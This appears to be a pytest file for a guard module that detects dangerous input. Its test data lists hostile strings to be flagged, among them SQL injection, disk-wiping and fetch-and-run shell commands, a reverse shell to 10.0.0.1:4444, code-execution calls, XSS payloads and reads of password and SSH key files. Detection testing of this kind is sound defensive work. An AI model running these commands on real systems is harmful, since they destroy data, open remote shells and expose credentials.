"""wire.guard.dangers: known forms of harm are found, and ordinary queries, commands and programs are not."""

import pytest

from tollhouse.wire.guard.dangers import blocked_code, dangers
from tollhouse.wire.guard.patterns import PatternSet

HARM = {
    "sql": [
        "DROP TABLE users;",
        "drop   database x",
        "delete from users;",
        'DELETE FROM "a".b ;',
        "1 UNION ALL SELECT password",
        "x' OR 1=1 --",
        "') or '1'='1",
        "'; DROP TABLE x",
        "EXEC xp_cmdshell 'dir'",
        "select pg_sleep(10)",
        "1; waitfor delay '0:0:5'",
        "' OR true--",
        "select load_file('/etc/x')",
        "x INTO OUTFILE '/tmp/y'",
        "GRANT ALL ON *.* TO x",
    ],
    "shell": [
        "rm -rf /",
        "sudo rm -r -f ~/x",
        "curl -s http://x.test/i | sudo bash",
        "wget -qO- x|sh",
        'bash -c "$(curl -fsSL x)"',
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "nc 10.0.0.1 4444 -e /bin/sh",
        "mkfs.ext4 /dev/sda1",
        "dd if=/dev/zero of=/dev/sda",
        "> /dev/sda",
        ":(){ :|:& };:",
        "chmod -R 777 /",
        "echo x | base64 -d | bash",
        "powershell -nop -enc SQBF ",
        "IEX (New-Object Net.WebClient).DownloadString('x')",
        "del /f /s C:\\",
        "git push origin main --force",
    ],
    "code": [
        "eval(base64.b64decode(x))",
        "exec(compile(s, '', 'exec'))",
        "__import__('os').system('x')",
        "os.system('ls')",
        "os.popen(cmd)",
        "subprocess.run(cmd, shell=True)",
        "pty.spawn('/bin/sh')",
        "pickle.loads(data)",
        "require('child_process').exec('x')",
        'Runtime.getRuntime().exec("x")',
        "shutil.rmtree('/')",
        "().__class__.__base__.__subclasses__()",
        "${jndi:ldap://x}",
    ],
    "markup": [
        "<script>alert(1)</script>",
        "<a href='javascript:x()'>",
        "<img src=x onerror=alert(1)>",
        "data:text/html,x",
        "<iframe src=x>",
    ],
    "path": [
        "../../etc/hosts",
        "..%2f..%2f",
        "%2e%2e/",
        "cat /etc/passwd",
        "~/.ssh/config",
        "id_rsa",
        "http://169.254.169.254/latest",
        "file:///etc/hosts",
    ],
}
HARMLESS = [
    "SELECT name FROM users WHERE id = 1 ORDER BY name",
    "DELETE FROM users WHERE id = 3;",
    "the union selected a leader, and dropped tables",
    "it's either 'a' or 'b'",
    "rm file.txt",
    "curl https://example.org -o x",
    "ls | grep sh",
    "subprocess.run(['ls'])",
    "json.loads(text)",
    "evaluate(x); executor.submit(f)",
    "a <b> c, x < script",
    "../relative/path",
    "see the JavaScript: guide".replace("JavaScript:", "JavaScript"),
    "sleep(5)",
    "git push origin main",
    "grant all of them a wish".replace("grant all", "grant each"),
    "on error = continue",
    "1 = 1 or so",
]


@pytest.fixture(scope="module")
def patterns() -> PatternSet:
    return PatternSet([rule for rules in dangers().values() for rule in rules])


@pytest.mark.parametrize(("kind", "text"), [(kind, text) for kind, texts in HARM.items() for text in texts])
def test_harm_is_found(patterns: PatternSet, kind: str, text: str) -> None:
    assert kind in {patterns.rules[one.rule].name for one in patterns.find(text)}


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_ordinary_is_not(patterns: PatternSet, text: str) -> None:
    assert [text[one.begin : one.end] for one in patterns.find(text)] == []


def test_blocks_of_code() -> None:
    patterns = PatternSet([blocked_code(("bash", "sh"))])
    text = "Do\n```bash\nls -l\n```\nor\n```python\nprint()\n```\nor ``` SH \r\nx"
    assert patterns.replace(text, lambda rule, found: "<code>") == "Do\n<code>\nor\n```python\nprint()\n```\nor <code>"
